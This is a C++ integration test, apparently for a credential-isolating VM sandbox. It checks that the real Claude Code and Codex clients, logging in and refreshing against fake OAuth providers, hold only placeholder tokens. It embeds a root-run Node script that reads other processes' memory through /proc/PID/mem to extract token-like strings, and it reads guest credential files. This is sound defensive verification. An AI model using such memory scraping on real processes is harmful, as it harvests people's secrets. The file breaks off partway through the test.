// Subscription logins in a real VM (issue 16's proof) with the pinned real clients, Claude Code
// 2.1.332 (`claude`, its bun-compiled native binary) and Codex 0.171.0 (`codex`, its static musl
// binary), both taken from the npm tarball cache (scripts/install-deps.sh test) and given to the
// guest on a read-only shared folder: one boot of the test image under TCG for both.
//
// Two fake providers (oauth/fake_provider.h) on 127.0.0.1 behind the test upstream CA, reached
// through the proxy's resolve override (nothing leaves loopback): platform.claude.com's token
// endpoint and api.anthropic.com's Messages API (a streamed answer), auth.openai.com's token
// endpoint and chatgpt.com's Responses API (a streamed answer). Each API answers only the
// provider's current real access token, and 401 for a token the test has expired.
//   1. `cred import` of host logins (credentials files the fakes issued); in the guest `claude -p`
//      and `codex exec` get their answers: the fakes saw the real access tokens, the guest's files
//      hold placeholders. Then the fakes expire both access tokens (401 from now on) and two days
//      pass on the guest's clock: Claude Code sees its login's expiresAt behind it, Codex gets a
//      401, and each refreshes through the host (the fake sees the real refresh token and rotates
//      it; the guest gets placeholders); the next call, with the new real token, is answered.
//      Between the two, each client's own login typed on a terminal (`cloister exec -i -t`, a
//      local pty) replaces the imported one: `claude auth login` (the authorize URL opened by
//      curl on the host as the person's browser, CODE#STATE pasted at "Paste code here") and
//      `codex login --device-auth` (its one-time code approved at the fake's device page); the
//      proxy captures both exchanges, so the refreshes and answered calls of 1b are the typed
//      logins'.
//   2. While both clients wait in the middle of that answer (the fake holds the stream), as root in
//      the guest: the environment of every process and the memory of the clients' processes (every
//      readable mapping with resident pages, except read-only file mappings, whose files are the
//      clients' binaries and the image's libraries, covered by the host-side scans). The guest
//      sends back only the long runs of token characters it found (never a needle: no real token
//      goes into the guest to search for); the host searches them. After a sync, the workspace's
//      files on the host (system and home disks, metadata disk, logs, config, trace). Zero
//      bytes of any real token anywhere; the placeholders found in each place.
//   3. The access placeholder sent by the guest to another host trips the detector: 451, the
//      workspace marked compromised and paused, nothing forwarded.
#include <fcntl.h>
#include <poll.h>
#include <signal.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <gtest/gtest.h>

#include <algorithm>
#include <chrono>
#include <filesystem>
#include <fstream>
#include <functional>
#include <iostream>
#include <map>
#include <regex>
#include <set>
#include <thread>

#include <nlohmann/json.hpp>

#include "base/strings.h"
#include "base/subprocess.h"
#include "image/npm_tarball.h"
#include "oauth/fake_provider.h"
#include "oauth/test_util.h"
#include "proxy/ca.h"
#include "proxy/fake_upstream.h"
#include "supervisor/state.h"
#include "supervisor/testing.h"
#include "supervisor/workspace.h"
#include "vault/placeholder.h"

namespace cloister::vm {
namespace {

namespace fs = std::filesystem;
using Clock = std::chrono::steady_clock;
using nlohmann::json;
using oauth::testing::FakeProvider;
using proxy::testing::ResponseWriter;
using proxy::testing::SeenRequest;
using testing::Slurp;
using testing::WaitFor;

const char kClaudeAnswer[] = "Hello from the fake Claude subscription API";
const char kCodexAnswer[] = "Hello from the fake ChatGPT subscription API";

// The Messages API stream (message_start ... message_stop); `hold` (may be null) is waited on
// after message_start, so the client sits in the middle of the answer while the test scans it.
void ClaudeStream(ResponseWriter& w, proxy::testing::Gate* hold) {
  w.StartChunked(200, {{"Content-Type", "text/event-stream"}, {"request-id", "req_fake"}});
  auto event = [&](const std::string& type, const json& data) {
    w.Chunk("event: " + type + "\ndata: " + data.dump() + "\n\n");
  };
  event("message_start",
        {{"type", "message_start"},
         {"message", {{"id", "msg_fake"}, {"type", "message"}, {"role", "assistant"},
                      {"model", "claude-fake"}, {"content", json::array()},
                      {"stop_reason", nullptr}, {"stop_sequence", nullptr},
                      {"usage", {{"input_tokens", 12}, {"output_tokens", 1}}}}}});
  if (hold) hold->Wait(std::chrono::minutes(12));
  event("content_block_start", {{"type", "content_block_start"}, {"index", 0},
                                {"content_block", {{"type", "text"}, {"text", ""}}}});
  event("content_block_delta", {{"type", "content_block_delta"}, {"index", 0},
                                {"delta", {{"type", "text_delta"}, {"text", kClaudeAnswer}}}});
  event("content_block_stop", {{"type", "content_block_stop"}, {"index", 0}});
  event("message_delta", {{"type", "message_delta"},
                          {"delta", {{"stop_reason", "end_turn"}, {"stop_sequence", nullptr}}},
                          {"usage", {{"output_tokens", 7}}}});
  event("message_stop", {{"type", "message_stop"}});
  w.End();
}

// The Responses API stream Codex reads (response.created, the assistant message,
// response.completed); `hold` as above, after response.created.
void CodexStream(ResponseWriter& w, proxy::testing::Gate* hold) {
  w.StartChunked(200, {{"Content-Type", "text/event-stream"}});
  auto event = [&](const json& data) {
    w.Chunk("event: " + data["type"].get<std::string>() + "\ndata: " + data.dump() + "\n\n");
  };
  event({{"type", "response.created"}, {"response", {{"id", "resp_fake"}}}});
  if (hold) hold->Wait(std::chrono::minutes(12));
  json item = {{"type", "message"}, {"role", "assistant"}, {"id", "msg_fake"},
               {"content", {{{"type", "output_text"}, {"text", kCodexAnswer}}}}};
  event({{"type", "response.output_item.done"}, {"output_index", 0}, {"item", item}});
  event({{"type", "response.completed"},
         {"response", {{"id", "resp_fake"},
                       {"usage", {{"input_tokens", 12}, {"input_tokens_details", nullptr},
                                  {"output_tokens", 7}, {"output_tokens_details", nullptr},
                                  {"total_tokens", 19}}}}}});
  w.End();
}

// Every needle's occurrences in the regular files under `dir`, by needle then file, reading each
// file once (its data extents only: holes read as zeros and no needle holds a NUL).
std::map<std::string, std::map<std::string, size_t>> ScanTree(
    const std::string& dir, const std::vector<std::string>& needles) {
  std::map<std::string, std::map<std::string, size_t>> found;
  size_t longest = 1;
  for (const auto& n : needles) longest = std::max(longest, n.size());
  std::vector<char> chunk(8 << 20);
  std::error_code ec;
  for (auto it = fs::recursive_directory_iterator(dir, ec);
       !ec && it != fs::recursive_directory_iterator(); it.increment(ec)) {
    if (!it->is_regular_file(ec)) continue;
    const std::string path = it->path().string();
    int fd = open(path.c_str(), O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
      ADD_FAILURE() << "cannot read " << path;
      continue;
    }
    struct stat st {};
    fstat(fd, &st);
    std::string carry;  // the tail of the previous read (a match may straddle two)
    off_t off = 0;
    while (off < st.st_size) {
      off_t data = lseek(fd, off, SEEK_DATA);
      if (data < 0) break;  // ENXIO: only a hole from here on
      off_t hole = lseek(fd, data, SEEK_HOLE);
      if (hole < 0) hole = st.st_size;
      if (data != off) carry.clear();
      off = data;
      while (off < hole) {
        ssize_t n = pread(fd, chunk.data(), std::min<off_t>(chunk.size(), hole - off), off);
        if (n <= 0) break;
        std::string buf = carry;
        buf.append(chunk.data(), static_cast<size_t>(n));
        for (const auto& needle : needles) {
          std::boyer_moore_horspool_searcher s(needle.begin(), needle.end());
          // Matches wholly inside the carried tail were counted by the previous read.
          auto from = buf.begin();
          while (true) {
            auto m = std::search(from, buf.end(), s);
            if (m == buf.end()) break;
            if (static_cast<size_t>(m - buf.begin()) + needle.size() > carry.size()) {
              ++found[needle][path];
            }
            from = m + 1;
          }
        }
        carry = buf.size() > longest - 1 ? buf.substr(buf.size() - (longest - 1)) : buf;
        off += n;
      }
    }
    close(fd);
  }
  EXPECT_FALSE(ec) << "scanning " << dir << ": " << ec.message();
  return found;
}

// Runs as root in the guest with the pids to scan as arguments ($0 is the page reader below),
// in one node process: prints every distinct run of >= 40 token characters (base64url, JWT dots,
// and -_+/=) in the resident pages (pagemap's present bit) of each readable mapping of each
// process, except read-only mappings of files (their files are the clients' binaries and the
// image's libraries: the host-side scans cover them), then "pid PID regions R resident N bytes
// MS ms" per process read whole. Claude's bun reserves gigabytes it never touches, so only
// present pages are read. The runs are cut in the guest (a regular expression over each read,
// a run that reaches the end of a read carried into the next read of adjacent pages), so only
// the runs leave node: piping every resident byte through tr | grep | sort under TCG, one node
// per process, was most of this test's time (~220 s for ~150 MB). SECURITY of the proof: the
// guest gets no needle; the host searches the runs.
const char kPageReader[] = R"JS(
const fs = require('fs');
const runs = new Set();
const tok = new Uint8Array(256);
for (const c of 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789._+/=-') tok[c.charCodeAt(0)] = 1;
const re = /[A-Za-z0-9._+\/=-]{40,}/g;
const buf = Buffer.allocUnsafe(4096 * 4096);
let carry = '';  // a run that reached the end of the previous read (its pages continue)
function flush() { if (carry.length >= 40) runs.add(carry); carry = ''; }
function scan(n) {
  let k = n;  // the bytes after the last non-token byte continue into the next read
  while (k > 0 && tok[buf[k - 1]]) k--;
  if (k === 0) { carry += buf.toString('latin1', 0, n); return; }
  const s = carry + buf.toString('latin1', 0, k);
  re.lastIndex = 0;
  for (let m; (m = re.exec(s)) !== null;) runs.add(m[0]);
  carry = buf.toString('latin1', k, n);
}
for (const pid of process.argv.slice(2)) {
  const t0 = Date.now();
  let regions = 0, bytes = 0;
  try {
    const smaps = fs.readFileSync('/proc/' + pid + '/smaps', 'latin1');
    const mem = fs.openSync('/proc/' + pid + '/mem', 'r');
    const pm = fs.openSync('/proc/' + pid + '/pagemap', 'r');
    const todo = [];
    let cur = null;
    for (const line of smaps.split('\n')) {
      const m = /^([0-9a-f]+)-([0-9a-f]+) (\S+) \S+ \S+ \S+\s*(.*)$/.exec(line);
      if (m) { cur = (m[3][0] === 'r' && !(m[4].startsWith('/') && m[3][1] !== 'w')) ? m : null; continue; }
      const r = /^Rss:\s+(\d+) kB/.exec(line);
      if (r && cur && Number(r[1]) > 0) todo.push(cur);
      if (r) cur = null;
    }
    for (const m of todo) {
      const s = parseInt(m[1], 16), n = (parseInt(m[2], 16) - s) / 4096;
      const map = Buffer.alloc(n * 8);
      try { fs.readSync(pm, map, 0, n * 8, (s / 4096) * 8); } catch (e) { continue; }
      regions++;
      for (let i = 0; i < n; ) {
        if (!(map[i * 8 + 7] & 0x80)) { flush(); i++; continue; }
        let j = i;
        while (j < n && (map[j * 8 + 7] & 0x80) && j - i < 4096) j++;
        let r = 0;
        try { r = fs.readSync(mem, buf, 0, (j - i) * 4096, s + i * 4096); } catch (e) {}
        if (r > 0) { scan(r); bytes += r; }
        if (r < (j - i) * 4096) flush();
        i = j;
      }
      flush();
    }
    fs.closeSync(mem); fs.closeSync(pm);
  } catch (e) {
    flush();
    process.stderr.write('pid ' + pid + ' error ' + e.message + '\n');
    continue;
  }
  process.stderr.write('pid ' + pid + ' regions ' + regions + ' resident ' + bytes + ' bytes ' +
                       (Date.now() - t0) + ' ms\n');
}
fs.writeSync(1, [...runs].join('\n') + '\n');
)JS";
const char kMemScan[] = R"SH(
printf '%s' "$0" > /tmp/pages.js
node /tmp/pages.js "$@" 2> /tmp/pages.log
r=$?
cat /tmp/pages.log
exit $r
)SH";

class OauthVmTest : public testing::CliVmTest {
 protected:
  std::string Exec(const std::string& script, int* code = nullptr, const std::string& user = "dev",
                   const std::vector<std::string>& args = {}) {
    return CliVmTest::Exec("ws", script, code, user, args);
  }
  // Pids of the guest's processes whose command name is `comm`.
  std::vector<std::string> Pids(const std::string& comm) {
    std::string out = Exec("for p in /proc/[0-9]*; do [ \"$(cat $p/comm 2>/dev/null)\" = \"$0\" ] "
                           "&& echo ${p#/proc/}; done; true",
                           nullptr, "root", {comm});
    std::vector<std::string> pids;
    for (const auto& l : Split(Trim(out), '\n')) {
      if (!l.empty()) pids.push_back(l);
    }
    return pids;
  }
  // A `cloister exec -i -t` on a local pseudo-terminal, as a person types into it: what it
  // printed (escape sequences kept), read until a pattern shows or the limit passes.
  struct Terminal {
    pid_t child = -1;
    int master = -1;
    std::string screen;
  };
  Terminal OpenTerminal(const std::string& script) {
    Terminal t;
    // Wide, so that no client wraps the URL it prints.
    t.child = SpawnCloisterOnPty({"exec", "-i", "-t", "ws", "-u", "dev", "--", "sh", "-c", script},
                                 &t.master, "", {}, 40, 1000);
    EXPECT_GE(t.child, 0);
    return t;
  }
  // The screen without terminal escape sequences (CSI, OSC) and carriage returns.
  static std::string Plain(const std::string& screen) {
    static const std::regex esc("\x1b\\[[0-9;?<>=]*[ -/]*[@-~]|\x1b\\][^\x07\x1b]*(\x07|\x1b\\\\)|"
                                "\x1b[()][0-9A-Za-z]|\x1b[=>78]|\r");
    return std::regex_replace(screen, esc, "");
  }
  // Reads until Plain(screen) matches `pattern`; the match (its first group if any) or "".
  std::string ReadUntil(Terminal& t, const std::string& pattern, std::chrono::seconds limit) {
    const std::regex re(pattern);
    auto deadline = Clock::now() + limit;
    while (true) {
      std::smatch m;
      const std::string plain = Plain(t.screen);
      if (std::regex_search(plain, m, re)) return m.size() > 1 ? m[1].str() : m[0].str();
      auto left = std::chrono::duration_cast<std::chrono::milliseconds>(deadline - Clock::now());
      if (left.count() <= 0 || t.master < 0) return "";
      pollfd p{t.master, POLLIN, 0};
      if (poll(&p, 1, static_cast<int>(std::min<int64_t>(left.count(), 1000))) <= 0) continue;
      char buf[4096];
      ssize_t n = read(t.master, buf, sizeof buf);
      if (n <= 0) return "";  // the terminal closed (the command ended)
      t.screen.append(buf, static_cast<size_t>(n));
    }
  }
  void Type(Terminal& t, const std::string& text) {
    ASSERT_EQ(write(t.master, text.data(), text.size()), static_cast<ssize_t>(text.size()));
  }
  // Waits (bounded) for the cloister on the terminal to end, reading what it still prints;
  // its exit code (-1: killed at the limit).
  int Close(Terminal& t, std::chrono::seconds limit) {
    int status = -1;
    bool ended = WaitFor([&] {
      char buf[4096];
      while (t.master >= 0) {
        pollfd p{t.master, POLLIN, 0};
        if (poll(&p, 1, 0) <= 0) break;
        ssize_t n = read(t.master, buf, sizeof buf);
        if (n <= 0) break;
        t.screen.append(buf, static_cast<size_t>(n));
      }
      return waitpid(t.child, &status, WNOHANG) == t.child;
    }, limit);
    if (!ended) {
      kill(t.child, SIGKILL);
      waitpid(t.child, &status, 0);
      ADD_FAILURE() << "the cloister on a terminal did not end: " << Plain(t.screen);
    }
    close(t.master);
    t.master = -1;
    return ended && WIFEXITED(status) ? WEXITSTATUS(status) : -1;
  }
};

TEST_F(OauthVmTest, RealClaudeAndCodexUseImportedLoginsRefreshOnTheHostAndHoldOnlyPlaceholders) {
  // The pinned clients from the npm tarball cache, on a read-only shared folder.
  const std::string cache = image::NpmCacheDir();
  const std::string claude_tgz = cache + "/anthropic-ai-claude-code-linux-x64-2.1.332.tgz";
  const std::string codex_tgz = cache + "/openai-codex-0.171.0-linux-x64.tgz";
  ASSERT_TRUE(fs::exists(claude_tgz) && fs::exists(codex_tgz))
      << "no pinned clients in the npm tarball cache " << cache
      << " (scripts/install-deps.sh test caches them; CLOISTER_NPM_CACHE overrides the place)";
  const std::string clis = root_ + "/clis";
  fs::create_directories(clis);
  RunOptions tar_opts;
  tar_opts.timeout = std::chrono::minutes(10);
  for (const auto& [tgz, member] :
       std::vector<std::pair<std::string, std::string>>{
           {claude_tgz, "package/claude"},
           {codex_tgz, "package/vendor/x86_64-unknown-linux-musl/bin/codex"}}) {
    auto r = RunProcess({"tar", "xzf", tgz, "-C", clis, "--strip-components",
                         std::to_string(std::count(member.begin(), member.end(), '/')), member},
                        tar_opts);
    ASSERT_TRUE(r.ok() && r->exit_code == 0) << (r.ok() ? r->err : r.error().ToString());
  }
  ASSERT_TRUE(fs::exists(clis + "/claude") && fs::exists(clis + "/codex"));

  // The fakes: one upstream, dispatched by SNI.
  FakeProvider claude(false), codex(true);
  // Codes only from the authorize page or an approved device code, each bound to its PKCE.
  claude.set_strict_pkce(true);
  codex.set_strict_pkce(true);
  std::mutex mu;
  std::set<std::string> expired;  // access tokens the fakes now answer 401 (guarded by mu)
  std::unique_ptr<proxy::testing::Gate> hold;  // non-null: API answers wait on it (guarded by mu)
  auto claude_token = claude.handler();
  auto codex_token = codex.handler();
  // Whether `r` carries `p`'s current access token and it has not been expired.
  auto current = [&](FakeProvider& p, const SeenRequest& r) {
    std::lock_guard<std::mutex> l(mu);
    std::string bearer = r.Header("authorization");
    return bearer == "Bearer " + p.access() && !expired.count(p.access());
  };
  auto gate = [&]() -> proxy::testing::Gate* {
    std::lock_guard<std::mutex> l(mu);
    return hold.get();
  };
  auto upstream_ca = proxy::CertAuthority::CreateInMemory("test upstream CA");
  ASSERT_TRUE(upstream_ca.ok());
  const std::string ca_file = root_ + "/upstream-ca.pem";
  std::ofstream(ca_file) << (*upstream_ca)->cert_pem();
  auto fake = proxy::testing::FakeUpstream::Start(
      *upstream_ca, [&](const SeenRequest& r, ResponseWriter& w) {
        const std::map<std::string, std::string> ct = {{"Content-Type", "application/json"}};
        const std::string path = r.target.substr(0, r.target.find('?'));
        if (r.sni == "platform.claude.com" || r.sni == "console.anthropic.com") {
          return claude_token(r, w);
        }
        if (r.sni == "auth.openai.com") return codex_token(r, w);
        // The person's browser at Claude's authorize page (the host side, curl): a 302 to the
        // manual callback page with the code.
        if (r.sni == "claude.com") return claude_token(r, w);
        if (r.sni == "api.anthropic.com") {
          if (!current(claude, r)) {
            w.Send(401, ct,
                   R"({"type":"error","error":{"type":"authentication_error","message":"OAuth token has expired. Please obtain a new token or refresh your existing token."}})");
            return;
          }
          // The profile Claude Code reads after a login (the fake's, current token only).
          if (r.method == "GET" && path == "/api/oauth/profile") return claude_token(r, w);
          if (r.method == "POST" && path == "/v1/messages") {
            if (r.body.find("\"stream\":true") != std::string::npos) return ClaudeStream(w, gate());
            // A retry without streaming (after a stream that idled past the client's limit).
            if (auto* g = gate()) g->Wait(std::chrono::minutes(12));
            json msg = {{"id", "msg_fake"}, {"type", "message"}, {"role", "assistant"},
                        {"model", "claude-fake"},
                        {"content", {{{"type", "text"}, {"text", kClaudeAnswer}}}},
                        {"stop_reason", "end_turn"}, {"stop_sequence", nullptr},
                        {"usage", {{"input_tokens", 12}, {"output_tokens", 7}}}};
            w.Send(200, ct, msg.dump());
            return;
          }
          w.Send(404, ct, R"({"type":"error","error":{"type":"not_found_error","message":"fake"}})");
          return;
        }
        if (r.sni == "chatgpt.com") {
          if (!current(codex, r)) {
            w.Send(401, ct, R"({"error":{"message":"token expired","code":"token_expired"}})");
            return;
          }
          if (r.method == "POST" && path == "/backend-api/codex/responses") {
            return CodexStream(w, gate());
          }
          // Codex 0.171 starts a ChatGPT session only once its workspace routing discovery
          // finds the auth.json account: one personal workspace, no backend constraint.
          if (r.method == "GET" && path == "/backend-api/wham/accounts/check") {
            json account = {{"id", "acct-fake-1"}, {"account_id", "acct-fake-1"},
                             {"account_user_id", "user-fake__acct-fake-1"},
                             {"account_user_role", "account-owner"}, {"structure", "personal"},
                             {"plan_type", "pro"}, {"name", "dev"}, {"is_deactivated", false},
                             {"is_zdr", false}, {"is_openai_internal", false},
                             {"is_fedramp_compliant_workspace", false},
                             {"workspace_backend_origin", "NO_CONSTRAINT"},
                             {"account_routing_override", "NO_CONSTRAINT"},
                             {"can_access_with_session", true}};
            w.Send(200, ct,
                   json({{"accounts", json::array({account})}, {"default_account_id", "acct-fake-1"},
                         {"account_ordering", json::array({"acct-fake-1"})}})
                       .dump());
            return;
          }
          w.Send(404, ct, R"({"detail":"not found"})");
          return;
        }
        w.Send(404, ct, "{}");
      });
  ASSERT_TRUE(fake.ok());
  // Whatever fails, held answers are released before the fake stops (it joins its threads).
  struct OpenOnExit {
    std::function<void()> f;
    ~OpenOnExit() { f(); }
  } release{[&] {
    if (auto* g = gate()) g->Open();
  }};
  const std::string addr = (*fake)->Address();
  std::string resolve;
  for (const char* h : {"api.anthropic.com", "platform.claude.com", "console.anthropic.com", "claude.com",
                        "auth.openai.com", "chatgpt.com", "elsewhere.example"}) {
    resolve += std::string(resolve.empty() ? "" : ",") + h + ":443=" + addr;
  }
  env_ = {{"CLOISTER_PROXY_RESOLVE", resolve},
          {"CLOISTER_PROXY_UPSTREAM_CA", ca_file},
          {"CLOISTER_VAULT_KEY_BACKEND", "file"}};
  // The requests one fake host saw, and a dump of all of them for failure messages.
  auto seen = [&](const std::string& sni) {
    std::vector<SeenRequest> out;
    for (auto& r : (*fake)->requests()) {
      if (r.sni == sni) out.push_back(r);
    }
    return out;
  };
  auto dump = [&] {
    std::string s;
    for (const auto& r : (*fake)->requests()) {
      s += r.sni + " " + r.method + " " + r.target + " auth=" +
           r.Header("authorization").substr(0, 30) + "\n";
    }
    return s;
  };
  auto answered_with = [&](const std::string& sni, const std::string& path,
                           const std::string& access) {
    size_t n = 0;
    for (const auto& r : seen(sni)) {
      if (r.target.rfind(path, 0) == 0 && r.Header("authorization") == "Bearer " + access) ++n;
    }
    return n;
  };

  // The workspace, then the host's logins into its custody (before the first start).
  testing::WorkspaceSpec spec;
  spec.memory_mib = 2048;
  spec.cpus = 2;
  spec.home_size = 512ull << 20;
  spec.volumes = {{clis, "/opt/clis", true}};
  Create("ws", spec);
  const std::string claude_file = root_ + "/host-claude-credentials.json";
  const std::string codex_file = root_ + "/host-codex-auth.json";
  // Claude's access token expires in a day (Claude Code refreshes from the expiry it reads, not
  // on a 401); the JWTs' own expiry is years away (Codex refreshes on a 401).
  const int64_t now_ms = static_cast<int64_t>(time(nullptr)) * 1000;
  std::ofstream(claude_file) << oauth::testing::ClaudeFile(claude.access(), claude.refresh(),
                                                            now_ms + 86400000);
  std::ofstream(codex_file) << oauth::testing::CodexFile(codex.id_token(), codex.access(),
                                                          codex.refresh());
  auto imp = Cloister({"cred", "import", "ws", "claude", "--from", claude_file});
  ASSERT_EQ(imp.exit_code, 0) << imp.err;
  EXPECT_NE((imp.out + imp.err).find("log in again"), std::string::npos) << imp.out << imp.err;
  imp = Cloister({"cred", "import", "ws", "codex", "--from", codex_file});
  ASSERT_EQ(imp.exit_code, 0) << imp.err;
  // Gone from the host side's files once imported (they are the host client's, not ours).
  fs::remove(claude_file);
  fs::remove(codex_file);
  Start("ws");

  // The guest's credentials files: placeholders of the tokens' shapes.
  int code = -1;
  auto cj = json::parse(Exec("cat ~/.claude/.credentials.json"), nullptr, false);
  ASSERT_TRUE(cj.is_object()) << Exec("ls -la ~ ~/.claude");
  std::string claude_access_ph = cj["claudeAiOauth"].value("accessToken", "");
  std::string claude_refresh_ph = cj["claudeAiOauth"].value("refreshToken", "");
  EXPECT_TRUE(StartsWith(claude_access_ph, "sk-ant-oat01-")) << claude_access_ph;
  EXPECT_TRUE(StartsWith(claude_refresh_ph, "sk-ant-ort01-")) << claude_refresh_ph;
  EXPECT_NE(claude_access_ph, claude.access());
  auto xj = json::parse(Exec("cat ~/.codex/auth.json"), nullptr, false);
  ASSERT_TRUE(xj.is_object());
  std::string codex_access_ph = xj["tokens"].value("access_token", "");
  std::string codex_refresh_ph = xj["tokens"].value("refresh_token", "");
  std::string codex_sig_ph(vault::JwtSignature(codex_access_ph));
  ASSERT_FALSE(codex_sig_ph.empty()) << codex_access_ph;
  EXPECT_NE(codex_sig_ph, vault::JwtSignature(codex.access()));

  // How a person runs them: a non-interactive prompt each. Claude's non-essential traffic off
  // (as the workspace's claude tool sets it); Codex outside a git repository, read-only.
  const std::string claude_cmd =
      "cd ~ && CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC=1 DISABLE_AUTOUPDATER=1 "
      "OAUTHVM_MARK=\"$0\" /opt/clis/claude -p 'Say hello'";
  const std::string codex_cmd =
      "cd ~ && OAUTHVM_MARK=\"$0\" /opt/clis/codex exec --skip-git-repo-check -s read-only "
      "--color never 'Say hello'";

  // 1a. The first API calls: the fakes take only the real access tokens.
  auto t0 = Clock::now();
  std::string out = Exec(claude_cmd + " 2>&1", &code, "dev", {claude_access_ph});
  std::cerr << "[ figures ] claude -p: " << std::chrono::duration<double>(Clock::now() - t0).count()
            << " s\n";
  EXPECT_EQ(code, 0) << out << dump();
  EXPECT_NE(out.find(kClaudeAnswer), std::string::npos) << out << dump();
  EXPECT_GE(answered_with("api.anthropic.com", "/v1/messages", claude.access()), 1u) << dump();
  t0 = Clock::now();
  out = Exec(codex_cmd + " 2>&1", &code, "dev", {codex_access_ph});
  std::cerr << "[ figures ] codex exec: " << std::chrono::duration<double>(Clock::now() - t0).count()
            << " s\n";
  EXPECT_EQ(code, 0) << out << dump();
  EXPECT_NE(out.find(kCodexAnswer), std::string::npos) << out << dump();
  EXPECT_GE(answered_with("chatgpt.com", "/backend-api/codex/responses", codex.access()), 1u)
      << dump();
  for (const auto& r : (*fake)->requests()) {
    if (r.sni == "chatgpt.com" && r.target.find("/responses") != std::string::npos) {
      EXPECT_EQ(r.Header("chatgpt-account-id"), "acct-fake-1");
    }
  }
  EXPECT_EQ(claude.refreshes() + codex.refreshes(), 0) << "no refresh needed yet";

  // 1c. The clients' own logins, typed on a terminal as a person would (`cloister exec -i -t`),
  //     replacing the imported ones. Claude Code 2.1.332: `claude auth login` prints the
  //     authorize URL (PKCE S256, state; redirect: the manual callback page) and asks "Paste code
  //     here if prompted >"; the person's browser (curl on the host) opens the URL, the fake's
  //     authorize page sends it to the callback page with the code, the person pastes CODE#STATE.
  //     Codex 0.171.0: `codex login --device-auth` prints a URL and a one-time code; the person
  //     enters the code at the page (the fake's ApproveDevice) and Codex, polling, gets the
  //     authorization code. Each exchange goes through the proxy's capture: the fakes issue new
  //     real tokens, the vault keeps them, the clients write placeholders.
  const std::string login_env = "cd ~ && CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC=1 "
                                "DISABLE_AUTOUPDATER=1 ";
  {
    t0 = Clock::now();
    // 2.1.332 prints a short link (claude.ai/oauth/authorize?<client and scope bits><code
    // challenge>, no state or redirect: claude.ai expands it); the full authorize URL is the
    // client's own switch CLAUDE_CODE_FULL_SIGN_IN_LINK (the fake does not expand short links).
    Terminal term = OpenTerminal(login_env + "CLAUDE_CODE_FULL_SIGN_IN_LINK=1 "
                                 "/opt/clis/claude auth login");
    const std::string url = ReadUntil(
        term, "(https://[^\\s]*/oauth/authorize\\?[^\\s]+)[\\s\\S]*Paste code here",
        std::chrono::seconds(300));
    ASSERT_FALSE(url.empty()) << Plain(term.screen) << dump();
    EXPECT_NE(url.find("code_challenge_method=S256"), std::string::npos) << url;
    RunOptions o;
    o.timeout = std::chrono::seconds(60);
    const std::string host = url.substr(8, url.find('/', 8) - 8);
    auto browser = RunProcess({"curl", "-sS", "-o", "/dev/null", "-w", "%{redirect_url}",
                               "--cacert", ca_file, "--connect-to", host + ":443:" + addr, url},
                              o);
    ASSERT_TRUE(browser.ok() && browser->exit_code == 0)
        << (browser.ok() ? browser->err : browser.error().ToString());
    // The callback page shows CODE#STATE (the authorize page's code and the URL's state).
    std::smatch cm;
    const std::string landed = browser->out;
    ASSERT_TRUE(std::regex_search(landed, cm, std::regex("[?&]code=([^&]+)&state=([^&]+)")))
        << landed;
    EXPECT_EQ(landed.rfind("https://platform.claude.com/oauth/code/callback?", 0), 0u) << landed;
    Type(term, cm[1].str() + "#" + cm[2].str() + "\r");
    EXPECT_NE(ReadUntil(term, "Login successful", std::chrono::seconds(300)), "")
        << Plain(term.screen) << dump();
    EXPECT_EQ(Close(term, std::chrono::seconds(120)), 0) << Plain(term.screen);
    std::cerr << "[ figures ] claude auth login on a terminal: "
              << std::chrono::duration<double>(Clock::now() - t0).count() << " s\n";
    EXPECT_EQ(claude.logins(), 1) << dump();
    for (const std::string& t : claude.issued()) {
      EXPECT_EQ(term.screen.find(t), std::string::npos) << "a real token on the terminal";
    }
  }
  {
    t0 = Clock::now();
    Terminal term = OpenTerminal("cd ~ && /opt/clis/codex login --device-auth");
    const std::string user_code = ReadUntil(
        term, "one-time code[^\\n]*\\n[^A-Z0-9]*([A-Z0-9]+-[A-Z0-9]+)", std::chrono::seconds(300));
    ASSERT_FALSE(user_code.empty()) << Plain(term.screen) << dump();
    EXPECT_NE(Plain(term.screen).find("https://auth.openai.com/codex/device"), std::string::npos)
        << Plain(term.screen);
    EXPECT_TRUE(codex.ApproveDevice(user_code)) << user_code;  // typed at the device page
    EXPECT_EQ(Close(term, std::chrono::seconds(300)), 0) << Plain(term.screen) << dump();
    std::cerr << "[ figures ] codex login --device-auth on a terminal: "
              << std::chrono::duration<double>(Clock::now() - t0).count() << " s\n";
    EXPECT_EQ(codex.logins(), 1) << Plain(term.screen) << dump();
    for (const std::string& t : codex.issued()) {
      EXPECT_EQ(term.screen.find(t), std::string::npos) << "a real token on the terminal";
    }
  }
  // The files the clients wrote: placeholders of the captured logins (the slots' shapes), none
  // of the real tokens the fakes issued.
  cj = json::parse(Exec("cat ~/.claude/.credentials.json"), nullptr, false);
  ASSERT_TRUE(cj.is_object() && cj["claudeAiOauth"].is_object());
  claude_access_ph = cj["claudeAiOauth"].value("accessToken", "");
  claude_refresh_ph = cj["claudeAiOauth"].value("refreshToken", "");
  EXPECT_TRUE(StartsWith(claude_access_ph, "sk-ant-oat01-")) << claude_access_ph;
  EXPECT_TRUE(StartsWith(claude_refresh_ph, "sk-ant-ort01-")) << claude_refresh_ph;
  xj = json::parse(Exec("cat ~/.codex/auth.json"), nullptr, false);
  ASSERT_TRUE(xj.is_object() && xj["tokens"].is_object());
  codex_access_ph = xj["tokens"].value("access_token", "");
  codex_refresh_ph = xj["tokens"].value("refresh_token", "");
  codex_sig_ph = std::string(vault::JwtSignature(codex_access_ph));
  ASSERT_FALSE(codex_sig_ph.empty()) << codex_access_ph;
  {
    const std::string written = cj.dump() + xj.dump();
    for (FakeProvider* p : {&claude, &codex}) {
      for (const std::string& t : p->issued()) {
        EXPECT_EQ(written.find(t), std::string::npos) << "a real token in a client's file";
        std::string_view sig = vault::JwtSignature(t);
        if (!sig.empty()) {
          EXPECT_EQ(written.find(sig), std::string::npos);
        }
      }
    }
  }
  // Their real API calls are 1b's: with the typed logins' tokens expired, each client refreshes
  // through the host (the fakes rotate only the typed logins' refresh tokens) and is answered
  // (the fakes take only the refreshed real tokens). A call in between would add minutes.

  // 1b. Forced expiry: both access tokens now get 401. Each client refreshes through the host
  //     and retries; the fakes hold the retried answer in the middle while the test scans.
  const std::string claude_access0 = claude.access(), codex_access0 = codex.access();
